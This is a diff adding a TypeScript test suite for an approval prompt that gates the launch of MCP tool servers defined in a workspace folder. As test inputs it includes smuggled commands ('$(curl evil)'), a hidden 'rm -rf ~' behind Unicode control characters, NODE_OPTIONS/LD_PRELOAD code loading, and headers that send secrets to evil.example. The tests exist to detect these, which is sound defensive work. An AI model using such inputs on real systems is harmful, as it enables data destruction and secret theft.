@@ -1,0 +1,329 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is how placeholders are written.
+
+import assert from 'node:assert/strict';
+import fc from 'fast-check';
+import {
+  type ApprovedLaunch,
+  approvalHash,
+  createLaunchApproval,
+  type LaunchApprovalOptions,
+} from '../../../../src/ensembles/mcp/approval/launch-approval.ts';
+import { type LaunchQuestion, sayLaunch } from '../../../../src/ensembles/mcp/approval/launch-question.ts';
+import type { ServerDefinition } from '../../../../src/ensembles/mcp/definition/server-definition.ts';
+import { aServer } from '../a-definition.ts';
+
+const { signal } = new AbortController();
+
+function approver(answers: readonly boolean[], more: Partial<LaunchApprovalOptions> = {}) {
+  const kept = new Map<string, ApprovedLaunch | undefined>();
+  const asked: LaunchQuestion[] = [];
+  const approval = createLaunchApproval({
+    ask: async question => {
+      asked.push(question);
+      const answer = answers[asked.length - 1];
+      assert(answer !== undefined, 'Nobody expected to be asked again.');
+      return answer;
+    },
+    memory: {
+      read: server => kept.get(server),
+      write: async (server, launch) => void kept.set(server, launch),
+    },
+    isTrusted: () => true,
+    ...more,
+  });
+  return { ...approval, asked, kept };
+}
+
+describe('The launch of a server that came with a folder', () => {
+  it('is approved once, and then known in other windows, too', async () => {
+    const { approve, isApproved, asked, kept } = approver([true]);
+    assert.equal(isApproved(aServer()), false);
+    assert.equal(await approve(aServer(), signal), undefined);
+    assert.equal(await approve(aServer(), signal), undefined);
+    assert.equal(asked.length, 1);
+    assert.equal(isApproved(aServer()), true);
+    const memory = { read: (server: string) => kept.get(server), write: async () => {} };
+    assert.equal(await approver([], { memory }).approve(aServer(), signal), undefined);
+  });
+
+  it('is not asked about where the person described the server', async () => {
+    const { approve } = approver([], { isTrusted: () => false });
+    assert.equal(await approve(aServer({}, { origin: 'user' }), signal), undefined);
+  });
+
+  it('is refused without a question in a workspace that is not trusted, also when it was approved before', async () => {
+    let trusted = true;
+    const { approve, isApproved } = approver([true], { isTrusted: () => trusted });
+    assert.equal(await approve(aServer(), signal), undefined);
+    trusted = false;
+    assert.match((await approve(aServer(), signal)) ?? '', /not trusted/);
+    assert.equal(isApproved(aServer()), false);
+  });
+
+  it('is refused when trust is taken away while the question stands', async () => {
+    let trusted = true;
+    const { approve } = approver([], {
+      isTrusted: () => trusted,
+      ask: async () => {
+        trusted = false;
+        return true;
+      },
+    });
+    assert.match((await approve(aServer(), signal)) ?? '', /not trusted/);
+  });
+
+  it('is not asked about again once it was declined, until the person starts it by hand', async () => {
+    const { approve, reconsider, asked } = approver([false, true]);
+    assert.match((await approve(aServer(), signal)) ?? '', /have not approved/);
+    assert.match((await approve(aServer(), signal)) ?? '', /have not approved/);
+    assert.equal(asked.length, 1);
+    reconsider(aServer());
+    assert.equal(await approve(aServer(), signal), undefined);
+  });
+
+  it('is asked about again when it has changed, and the question shows how', async () => {
+    const { approve, asked } = approver([true, true]);
+    await approve(aServer({ env: { MODE: 'dry', GONE: '1' } }), signal);
+    await approve(aServer({ args: ['-y', 'evil-server'], env: { MODE: 'wet', NEW: '2' } }), signal);
+    assert.equal(
+      sayLaunch(asked[1] as LaunchQuestion),
+      `/ws/.vscode/mcp.json wants to run:
+
+npx -y evil-server
+
+≠ args[1] = evil-server   (was weather-server@1.2.3)
+≠ env.MODE = wet
++ env.NEW = 2
+folder = /ws
+− env.GONE is gone
+
+You approved it as it was before. It has changed since.`,
+    );
+  });
+
+  it('shows whatever has changed, also of what it asks the person and of the rights that it wants', async () => {
+    const http = { kind: 'http', url: 'https://a.example/mcp', headers: {} } as const;
+    const input = { id: 'city', description: 'Which city?', password: false };
+    const changes: readonly (readonly [ServerDefinition, ServerDefinition, RegExp])[] = [
+      [aServer(http), aServer({ ...http, oauthScope: 'repo admin' }), /oauth\.scope = repo admin/],
+      [
+        aServer({ ...http, oauthScope: 'repo' }),
+        aServer({ ...http, oauthScope: 'repo admin' }),
+        /repo admin/,
+      ],
+      [
+        aServer({}, { inputs: [input] }),
+        aServer({}, { inputs: [{ ...input, proposal: '$(curl evil)' }] }),
+        /evil/,
+      ],
+      [
+        aServer({}, { inputs: [{ ...input, options: [{ value: 'Oslo' }] }] }),
+        aServer({}, { inputs: [{ ...input, options: [{ value: '--evil', label: 'Oslo' }] }] }),
+        /--evil/,
+      ],
+      [aServer({}, { inputs: [{ ...input, password: true }] }), aServer({}, { inputs: [input] }), /is seen/],
+    ];
+    for (const [before, after, expected] of changes) {
+      const { approve, asked } = approver([true, true]);
+      await approve(before, signal);
+      await approve(after, signal);
+      const { facts = [], gone = [] } = asked[1] ?? {};
+      assert.equal(facts.filter(({ change }) => change !== undefined).length + gone.length, 1);
+      assert.match(sayLaunch(asked[1] as LaunchQuestion), expected);
+    }
+  });
+
+  it('is asked about anew once the approval was taken back, whatever the launch is by then', async () => {
+    const { approve, isApproved, revoke, asked } = approver([true, true, true]);
+    const other = aServer({}, { name: 'rain' });
+    assert.equal(await approve(aServer(), signal), undefined);
+    assert.equal(await approve(other, signal), undefined);
+    await revoke(aServer({ args: ['other.js'] }));
+    assert.equal(isApproved(aServer()), false);
+    assert.equal(isApproved(other), true);
+    assert.equal(await approve(aServer(), signal), undefined);
+    assert.equal(asked.length, 3);
+  });
+
+  it('is one question for all who wait for it at once', async () => {
+    const { approve, asked } = approver([true]);
+    const answers = await Promise.all([approve(aServer(), signal), approve(aServer(), signal)]);
+    assert.deepEqual(answers, [undefined, undefined]);
+    assert.equal(asked.length, 1);
+  });
+
+  it('is asked about one server after the other', async () => {
+    const open: ((yes: boolean) => void)[] = [];
+    const { approve } = approver([], { ask: () => new Promise(resolve => open.push(resolve)) });
+    const one = approve(aServer(), signal);
+    const two = approve(aServer({}, { name: 'rain' }), signal);
+    await new Promise(setImmediate);
+    assert.equal(open.length, 1);
+    open[0]?.(true);
+    assert.equal(await one, undefined);
+    await new Promise(setImmediate);
+    open[1]?.(false);
+    assert.match((await two) ?? '', /have not approved/);
+  });
+
+  it('is asked about anew for whoever is still there when the first one has left', async () => {
+    const leaving = new AbortController();
+    const asked: AbortSignal[] = [];
+    const { approve } = approver([], {
+      ask: (_, until) => {
+        asked.push(until);
+        if (asked.length > 1) return Promise.resolve(true);
+        return new Promise(resolve => until.addEventListener('abort', () => resolve(false)));
+      },
+    });
+    const first = approve(aServer(), leaving.signal);
+    const second = approve(aServer(), signal);
+    await new Promise(setImmediate);
+    leaving.abort();
+    assert.match((await first) ?? '', /have not approved/);
+    assert.equal(await second, undefined);
+    assert.equal(asked.length, 2);
+  });
+
+  it('counts as declined where asking fails, and as approved for once where the answer cannot be kept', async () => {
+    const broken = approver([], { ask: () => Promise.reject(new Error('no window')) });
+    assert.match((await broken.approve(aServer(), signal)) ?? '', /have not approved/);
+    const memory = { read: () => undefined, write: () => Promise.reject(new Error('disk full')) };
+    const full = approver([true, true], { memory });
+    assert.equal(await full.approve(aServer(), signal), undefined);
+    assert.equal(await full.approve(aServer(), signal), undefined);
+    assert.equal(full.asked.length, 2);
+  });
+
+  it('keeps of variables and headers no value', async () => {
+    const { approve, kept } = approver([true, true]);
+    const env = { API_KEY: 'sk-abcdefghijklmnopqrstuvwxyz' };
+    await approve(aServer({ env, args: ['--key=sk-abcdefghijklmnopqrstuvwxyz'] }), signal);
+    const headers = { Authorization: 'Bearer abcdefghijklmnopqrstuvwxyz' };
+    await approve(
+      aServer({ kind: 'http', url: 'https://me:pass@a.example', headers }, { name: 'b' }),
+      signal,
+    );
+    assert.equal(kept.size, 2);
+    assert.doesNotMatch(JSON.stringify([...kept]), /abcdefghijklmnopqrstuvwxyz|me:pass/);
+  });
+});
+
+describe('The question about a launch', () => {
+  async function question(definition: ServerDefinition): Promise<string> {
+    const { approve, asked } = approver([false]);
+    await approve(definition, signal);
+    return sayLaunch(asked[0] as LaunchQuestion);
+  }
+
+  it('shows the whole command line, where each argument ends, and nothing hides in it', async () => {
+    const long = 'x'.repeat(5000);
+    const said = await question(
+      aServer({ command: 'sh', args: ['-c', `echo 'hi'\n\u202erm -rf ~\u200b`, '', long, 'a\u00a0b'] }),
+    );
+    assert(said.includes(long));
+    assert(said.includes(`sh -c 'echo '\\''hi'\\''\\u{a}\\u{202e}rm -rf ~\\u{200b}' '' ${long} a\\u{a0}b\n`));
+    assert(said.includes('It is a shell'));
+    assert((await question(aServer({ env: { 'A\n\u202eB': 'x' } }))).includes('env.A\\u{a}\\u{202e}B = x'));
+  });
+
+  it('tells where many spaces are, and that there is much to be read', async () => {
+    const said = await question(aServer({ command: 'sh', args: ['-c', `echo  hi${' '.repeat(900)}; evil`] }));
+    assert(said.includes(`sh -c 'echo  hi ⟨900 spaces⟩ ; evil'\n`));
+    assert.doesNotMatch(said, /characters long/);
+    const long = await question(aServer({ command: 'sh', args: ['-c', 'x'.repeat(900)] }));
+    assert.match(long, /⚠ It is 906 characters long\. Read all of it\./);
+  });
+
+  it('tells to whom the person’s secrets go', async () => {
+    const headers = { Authorization: 'Bearer ${secret:github}', 'X-Trace': '${env:AWS_KEY}${input:id}' };
+    const said = await question(aServer({ kind: 'http', url: 'http://evil.example/mcp', headers }));
+    assert.match(
+      said,
+      /⚠ evil\.example is given your secret "github", your environment variable AWS_KEY, what you answer for "id"\./,
+    );
+    assert.match(said, /⚠ It is asked without encryption/);
+    assert.match(said, /headers\.authorization = Bearer \$\{secret:github\}/);
+    const client = { oauthClientId: 'me', oauthClientSecret: '${secret:client}' };
+    const signing = await question(
+      aServer({ kind: 'http', url: 'https://a.example', headers: {}, ...client }),
+    );
+    assert.match(signing, /a\.example is given your secret "client"/);
+    assert.match(signing, /oauth\.client_id = me\noauth\.client_secret = \$\{secret:client\}/);
+  });
+
+  it('warns of variables that load code, and shows no secret that is written down', async () => {
+    const hiding = '--require /tmp/a.js --title=sk-abcdefghijklmnopqrstuvwxyz';
+    const env = { NODE_OPTIONS: hiding, LD_PRELOAD: 'x.so', TOKEN: 'abc-def-ghi' };
+    const said = await question(aServer({ env, envFile: '.env' }));
+    assert.match(said, /env\.NODE_OPTIONS = --require \/tmp\/a\.js/);
+    assert.match(
+      said,
+      /⚠ NODE_OPTIONS can make it run other code than its own. It is set to: --require \/tmp\/a\.js/,
+    );
+    assert.match(said, /⚠ LD_PRELOAD can make/);
+    assert.match(said, /env\.TOKEN = ••••/);
+    assert.match(said, /envFile is not part of what you approve/);
+  });
+});
+
+describe('What is approved', () => {
+  const word = fc.string({ minLength: 1, maxLength: 8 });
+  const table = fc.dictionary(fc.stringMatching(/^[A-Z]{1,6}$/), word, { minKeys: 1, maxKeys: 4 });
+  const stdio = fc.record({
+    command: word,
+    args: fc.array(word, { maxLength: 4 }),
+    env: table,
+    cwd: word,
+    envFile: word,
+  });
+
+  it('does not depend on the order in which keys were written', () => {
+    fc.assert(
+      fc.property(stdio, ({ env, ...rest }) => {
+        const turned = Object.fromEntries(Object.entries(env).reverse());
+        const keys = Object.fromEntries(Object.entries({ ...rest, env: turned }).reverse());
+        assert.equal(approvalHash(aServer(keys)), approvalHash(aServer({ ...rest, env })));
+      }),
+    );
+  });
+
+  it('is another one whenever any part of the launch is', () => {
+    fc.assert(
+      fc.property(stdio, word, (launch, other) => {
+        const [name = ''] = Object.keys(launch.env);
+        const changes: readonly ServerDefinition[] = [
+          aServer({ ...launch, command: `${launch.command}${other}` }),
+          aServer({ ...launch, args: [...launch.args, other] }),
+          aServer({ ...launch, args: [other, ...launch.args, other] }),
+          aServer({ ...launch, env: { ...launch.env, [name]: `${launch.env[name]}${other}` } }),
+          aServer({ ...launch, env: { ...launch.env, [`${name}_`]: other } }),
+          aServer({ ...launch, env: {} }),
+          aServer({ ...launch, cwd: `${launch.cwd}${other}` }),
+          aServer({ ...launch, envFile: `${launch.envFile}${other}` }),
+          aServer(launch, { folder: '/elsewhere' }),
+          aServer(launch, { sampling: true }),
+          aServer(launch, { inputs: [{ id: 'a', description: 'b', password: false }] }),
+          aServer({ kind: 'http', url: launch.command, headers: {} }),
+          aServer({ kind: 'sse', url: launch.command, headers: {} }),
+          aServer({ kind: 'http', url: launch.command, headers: launch.env }),
+          aServer({ kind: 'http', url: `${launch.command}${other}`, headers: launch.env }),
+          aServer({ kind: 'http', url: launch.command, headers: launch.env, oauthClientId: other }),
+        ];
+        const hashes = [aServer(launch), ...changes].map(approvalHash);
+        assert.equal(new Set(hashes).size, hashes.length);
+      }),
+    );
+  });
+
+  it('tells arguments apart from one that joins them', () => {
+    assert.notEqual(approvalHash(aServer({ args: ['a b'] })), approvalHash(aServer({ args: ['a', 'b'] })));
+    assert.notEqual(approvalHash(aServer({ args: ['a', 'b'] })), approvalHash(aServer({ args: ['b', 'a'] })));
+  });
+
+  it('takes names of headers as HTTP does, whatever their case', () => {
+    const one = aServer({ kind: 'http', url: 'https://a', headers: { 'X-KEY': 'v' } });
+    const other = aServer({ kind: 'http', url: 'https://a', headers: { 'x-key': 'v' } });
+    assert.equal(approvalHash(one), approvalHash(other));
+  });
+});
